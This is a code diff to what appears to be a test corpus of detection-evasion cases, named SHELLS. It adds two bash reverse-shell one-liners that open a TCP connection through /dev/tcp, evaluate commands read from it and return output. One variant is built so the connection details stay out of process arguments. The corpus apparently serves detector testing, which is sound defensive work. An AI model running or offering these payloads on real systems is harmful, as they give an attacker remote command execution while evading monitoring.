@@ -7,6 +7,17 @@ export const SHELLS: readonly Evasion[] = [
     "no shell is started: the one that connected obeys by itself",
     (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do eval "$line" >&5 2>&1; done`,
   ),
+  evasion(
+    "a loop with a prompt evaluates what it reads",
+    "it speaks first, as a client does",
+    (place) =>
+      `exec 5<>${tcp(place)}; printf '%s' "$(hostname) $ " >&5; while read -r line <&5; do eval "$line" >&5 2>&1; done`,
+  ),
+  evasion(
+    "a loop evaluates what head reads into a variable",
+    "neither shell nor program has words of the connection in its arguments",
+    (place) => `exec 5<>${tcp(place)}; while line=$(head -n1 <&5); do eval "$line" >&5 2>&1; done`,
+  ),
   fromFile(
     "a script evaluates what it reads",
     "a script from a file of root's connects, as a health check does",
